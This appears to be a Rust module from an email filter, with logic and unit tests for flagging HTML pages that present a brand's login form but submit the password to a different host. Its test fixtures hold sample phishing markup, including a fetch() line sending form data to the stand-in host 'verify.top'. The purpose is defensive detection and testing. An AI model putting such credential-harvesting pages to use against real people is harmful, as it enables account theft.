//! Pages that ask for a password as those of an organisation and send it to somebody else.

use super::super::OpenReading;
use crate::budget::Budget;
use crate::cost::Stage;
use crate::finding::Findings;
use crate::judging::Judge;
use maillinks::LoginPage;

/// Steps of each byte of a page that is read for what it calls itself: its tags are read, and strings of its scripts.
const PAGE_STEPS_PER_BYTE: u64 = 2;

impl OpenReading<'_> {
    /// Compares the organisation that a page with a password calls itself by with where it sends that. False if the budget
    /// ended.
    pub(super) fn login_page(
        &self,
        judge: &mut Judge<'_>,
        budget: &mut Budget<'_>,
        found: &mut Findings,
    ) -> bool {
        if !std::mem::take(&mut found.rereads.asks_password) {
            return true;
        }
        let text = self.reading.text.as_str();
        if !budget.spend(Stage::Reading, PAGE_STEPS_PER_BYTE * text.len() as u64) {
            return false;
        }
        let LoginPage { names, sends_to } = maillinks::login_page(text);
        let Some((url, start)) = sends_to else { return true };
        let site = names.iter().find_map(|name| judge.claimed_elsewhere(name, &url));
        let page = site.and_then(|site| maillinks::link_named(&url, start, &site));
        budget.spend(Stage::Judging, judge.take_steps())
            && page.is_none_or(|page| self.other(&page, judge, budget, found))
    }
}

#[cfg(test)]
mod tests {
    use crate::outcome::{Reason, Verdict};
    use crate::{Answers, Facts, Message, Policy, TldTable};

    /// The verdict of what the page sends elsewhere.
    fn sent(field: &str, page: &str) -> Option<Verdict> {
        let head = format!("From: Bob <bob@verify.top>\r\nContent-Type: text/html\r\n{field}");
        let message = Message { head: head.as_bytes(), body: page.as_bytes() };
        let tlds = TldTable::new(["com", "org", "top"], "");
        let facts = Facts { recipient_domains: vec!["examplecorp.org".into()], ..Facts::default() };
        let policy = Policy::default();
        let outcome = crate::inspect(message, &facts, &policy, &tlds).resolve(&Answers::new());
        assert_eq!(outcome.edits, []);
        let differ =
            outcome.findings.iter().filter(|one| one.reasons.contains(Reason::TextHrefMismatch));
        differ.map(|one| one.verdict).max()
    }

    const FORM: &str = "<form action=\"https://{H}/p\" method=post><input name=u>\
                        <input type=password name=p><button>Log In</button></form>";
    const ATTACHED: &str = "Content-Disposition: attachment; filename=form.html\r\n";

    #[test]
    fn the_password_of_an_organisation_is_sent_nowhere_else() {
        for name in [
            "<title>PayPal: Log In</title>",
            "<title>Log in to your PayPal account</title>",
            "<h1>Pay<b>Pal</b></h1>",
            "<p>Hello</p><h2 class=x>Netflix</h2>",
            "<img src=cid:x alt=\"Microsoft\">",
            "<TITLE>Sign in - PayPal</TITLE>",
        ] {
            for form in [
                FORM,
                "<FORM ACTION=https://{H}/p><INPUT TYPE=PASSWORD></FORM>",
                "<form><input type=' password '><button formaction=https://{H}/p>Go</button></form>",
                "<form id=f><input type=password></form>\
                 <script src=https://code.top/x.js></script>\
                 <script>var a='https://code.top/y.js';fetch(\"https://{H}/p\",{body:f})</script>",
            ] {
                for field in ["", ATTACHED] {
                    let to = |host: &str| sent(field, &[name, &form.replace("{H}", host)].concat());
                    assert_eq!(to("verify.top"), Some(Verdict::Suspect), "{field}{name} {form}");
                    if !name.contains("Microsoft") && !name.contains("Netflix") {
                        assert_eq!(to("www.paypal.com"), None, "{field}{name} {form}");
                    }
                }
            }
        }
    }

    #[test]
    fn other_forms_are_let_alone() {
        for page in [
            // A letter about a firm, with no password.
            "<title>PayPal</title><form action=https://verify.top/p><input name=q></form>",
            // Of nobody who is known.
            &["<title>Log in</title>", &FORM.replace("{H}", "verify.top")].concat(),
            &["<h1>Our newsletter</h1>", &FORM.replace("{H}", "verify.top")].concat(),
            // A service that opens letters for others.
            &["<title>PayPal</title>", &FORM.replace("{H}", "res.cisco.com")].concat(),
            // As a browser saves it.
            "<title>PayPal: Log In</title><form action=/signin><input type=password></form>",
        ] {
            assert_eq!(sent("", page), None, "{page}");
        }
    }
}
